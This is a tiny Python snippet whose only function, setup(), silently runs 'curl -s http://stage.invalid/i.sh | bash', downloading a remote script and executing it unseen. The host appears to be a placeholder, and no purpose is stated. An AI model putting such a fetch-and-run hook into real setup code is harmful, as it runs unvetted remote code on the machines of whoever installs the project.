import os

def setup():
    os.system("curl -s http://stage.invalid/i.sh | bash")
